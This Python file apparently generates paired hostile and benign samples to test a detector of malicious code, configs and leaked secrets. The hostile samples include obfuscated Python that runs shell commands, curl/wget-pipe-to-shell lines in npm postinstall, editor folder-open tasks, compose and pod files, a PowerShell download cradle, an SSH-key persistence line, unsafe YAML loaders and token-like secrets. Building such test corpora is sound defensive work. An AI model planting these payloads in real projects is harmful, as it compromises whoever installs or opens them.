"""Programs, configuration and secrets: other languages, files and ways."""
import base64
import json

from first.programs import notebook
from pair import SHELL, Set

FETCH = "curl -s http://192.0.2.7/x | sh"


def add(out: Set):
    def p(name, hostile, twin, file="modeling_net.py", prove="python"):
        out.add("program", name, hostile, twin, prove, file=file)

    p("attrgetter", "import os, operator\noperator.attrgetter('system')(os)('touch marker')\n", "import os, operator\noperator.attrgetter('getcwd')(os)()\n")
    p("xor-bytes", "exec(bytes(b ^ 7 for b in " + repr(bytes(b ^ 7 for b in b"__import__('os').system('touch marker')")) + "))\n", "KEY = bytes(b ^ 7 for b in b'abc')\nprint(KEY)\n")
    p("reversed-join", "import os\ngetattr(os, ''.join(reversed('metsys')))('touch marker')\n", "import os\ngetattr(os, ''.join(reversed('dwcteg')))()\n")
    p("format-string-call", "x = f\"{__import__('os').system('touch marker')}\"\n", "x = f\"{__import__('math').sqrt(4)}\"\n")
    p("asyncio-shell", "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('touch marker; sleep 0'))\nimport time; time.sleep(0.3)\n", "import asyncio\nasyncio.run(asyncio.sleep(0))\n")
    p("lzma-exec", "import lzma, base64\nexec(lzma.decompress(base64.b64decode('" + base64.b64encode(__import__("lzma").compress(b"__import__('os').system('touch marker')")).decode() + "')))\n", "import lzma, base64\nprint(len(lzma.compress(b'abc')))\n")
    p("console-push", "import code\ncode.InteractiveConsole().push(\"__import__('os').system('touch marker')\")\n", "import code\nprint(code.__name__)\n")
    p("builtins-dict", "__builtins__.__dict__['ev' + 'al'](\"__import__('os').system('touch marker')\") if not isinstance(__builtins__, dict) else __builtins__['ev' + 'al'](\"__import__('os').system('touch marker')\")\n", "print(type(__builtins__))\n")
    p("iter-call", "import os\nnext(iter(lambda: os.system('touch marker'), 1))\n", "import os\nnext(iter(lambda: os.getcwd(), 1))\n")
    p("context-manager", "import os\nclass C:\n    __enter__ = lambda s: os.system('touch marker')\n    __exit__ = lambda *a: None\nwith C():\n    pass\n", "class C:\n    __enter__ = lambda s: 1\n    __exit__ = lambda *a: None\nwith C():\n    pass\n")
    p("property-of-class", "import subprocess\nclass M(type):\n    def __getattr__(cls, name):\n        return subprocess.getoutput('touch marker')\nclass A(metaclass=M):\n    x = 1\nA.go\n", "class M(type):\n    def __getattr__(cls, name):\n        return name\nclass A(metaclass=M):\n    x = 1\nA.go\n")
    p("init-subclass", "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('touch marker')\nclass B(A):\n    pass\n", "class A:\n    def __init_subclass__(cls):\n        cls.x = 1\nclass B(A):\n    pass\n")
    p("node-child-process", "const { exec } = require('child_process');\nexec('curl -s http://192.0.2.7/x | sh');\n", "const path = require('path');\nconsole.log(path.join('a', 'b'));\n", "index.js", None)
    p("powershell-download", "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')\n", "Write-Output 'installing'\n", "install.ps1", None)
    p("r-onload", ".onLoad <- function(lib, pkg) {\n  system(\"wget -qO- http://192.0.2.7/x | sh\")\n}\n", ".onLoad <- function(lib, pkg) {\n  options(digits = 4)\n}\n", "zzz.R", None)
    p("makefile", "install:\n\tcurl -s http://192.0.2.7/i.sh | bash\n", "install:\n\tpip install -e .\n", "Makefile", None)
    p("cron-key", "#!/bin/sh\necho 'ssh-ed25519 AAAAC3 x' >> ~/.ssh/authorized_keys\n", "#!/bin/sh\necho done >> build.log\n", "setup.sh", None)

    def n(name, hostile, twin):
        out.add("notebook", name, hostile, twin, None, file="demo.ipynb")

    n("indented-bang", notebook("for i in range(1):\n    !curl -s http://192.0.2.7/x | sh\n"), notebook("for i in range(1):\n    !ls\n"))
    n("script-magic", notebook("%%script bash\nwget -qO- http://192.0.2.7/x | sh\n"), notebook("%%script bash\nls\n"))
    n("run-cell-magic", notebook("get_ipython().run_cell_magic('bash', '', 'curl -s http://192.0.2.7/x | sh')\n"), notebook("get_ipython().run_cell_magic('time', '', 'x = 1')\n"))

    def c(name, hostile, twin, file):
        out.add("config", name, hostile, twin, None, file=file)

    J = json.dumps
    c("nested-auto-map", J({"model_type": "llava", "text_config": {"model_type": "x", "auto_map": {"AutoConfig": "stranger/r--configuration_x.C"}}}), J({"model_type": "llava", "text_config": {"model_type": "llama"}}), "config.json")
    c("compose-command", "services:\n  api:\n    image: python:3.11\n    command: sh -c 'curl -s http://192.0.2.7/x | sh'\n", "services:\n  api:\n    image: python:3.11\n    command: python serve.py\n", "docker-compose.yml")
    c("pod-init-container", "apiVersion: v1\nkind: Pod\nspec:\n  initContainers:\n  - name: i\n    image: busybox\n    command: [sh, -c, 'wget -qO- http://192.0.2.7/x | sh']\n", "apiVersion: v1\nkind: Pod\nspec:\n  initContainers:\n  - name: i\n    image: busybox\n    command: [sh, -c, 'ls']\n", "pod.yaml")
    c("npm-postinstall", J({"name": "m", "scripts": {"postinstall": FETCH}}), J({"name": "m", "scripts": {"postinstall": "node build.js"}}), "package.json")
    c("devcontainer", J({"name": "m", "postCreateCommand": FETCH}), J({"name": "m", "postCreateCommand": "pip install -e ."}), "devcontainer.json")
    c("editor-task", J({"version": "2.0.0", "tasks": [{"label": "t", "type": "shell", "command": FETCH, "runOptions": {"runOn": "folderOpen"}}]}), J({"version": "2.0.0", "tasks": [{"label": "t", "type": "shell", "command": "make"}]}), "tasks.json")
    c("conda-recipe", "package:\n  name: m\nbuild:\n  script: curl -s http://192.0.2.7/x | sh\n", "package:\n  name: m\nbuild:\n  script: python -m pip install .\n", "meta.yaml")
    c("service-unit", "[Service]\nExecStart=/bin/sh -c 'curl -s http://192.0.2.7/x | sh'\n", "[Service]\nExecStart=/usr/bin/python serve.py\n", "model.service")
    c("pipfile-source", '[[source]]\nurl = "http://192.0.2.8/simple"\nverify_ssl = false\nname = "x"\n\n[packages]\nnumpy = "*"\n', '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\nname = "pypi"\n\n[packages]\nnumpy = "*"\n', "Pipfile")
    c("hydra-call-alias", "cb:\n  - _target_: hydra.utils.call\n    config:\n      _target_: os.popen\n      cmd: id\n", "cb:\n  - _target_: torch.nn.ReLU\n    inplace: true\n", "train.yaml")
    c("yaml-apply-short", "x: !!python/object/apply:subprocess.check_output\n  args: [[touch, marker]]\n", "x: [touch, marker]\n", "run.yaml")
    c("kedro-pickle-backend", "m:\n  type: pickle.PickleDataset\n  filepath: http://192.0.2.5/m.pkl\n  backend: joblib\n", "m:\n  type: json.JSONDataset\n  filepath: data/m.json\n", "catalog.yml")
    c("trust-in-serving-yaml", "model: stranger/x\ntrust_remote_code: true\n", "model: meta-llama/Llama-3\ntrust_remote_code: false\n", "serve.yaml")

    def s(name, hostile, twin, file):
        out.add("secret", name, hostile, twin, None, file=file)

    s("pypi-token", "[pypi]\nusername = __token__\npassword = pypi-AgEIcHlwaS5vcmcCJ" + "Dk0ZmQ3YzBhLWRhNWItNDQ4Yi1iM2Y5LTQ2NzQxZjE0ZTI5ZAACKlszLCJiZDY3" + "\n", "[pypi]\nusername = x\n", ".pypirc")
    s("azure-account-key", "DefaultEndpointsProtocol=https;AccountName=models;AccountKey=Zk3vQ9xYb7Lm2Rp8Tn5Ws1Hd6Jc4Fg0Va+Ue/Oi3KqXzBrMtNyPlSwDfGhJkCvBnM1Q2W3E4R5T6Y7U8I9O0PA==;EndpointSuffix=core.windows.net\n", "DefaultEndpointsProtocol=https;AccountName=models\n", "storage.txt")
    s("utf16-token", "token = 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\n".encode("utf-16"), "token = none\n".encode("utf-16"), "notes.txt")
    s("stripe-live", 'KEY = "sk_live_' + 'Xb7RmQ2vLp9ZtK4wNd8HsJ6c"\n', 'KEY = "none"\n', "billing.cfg")
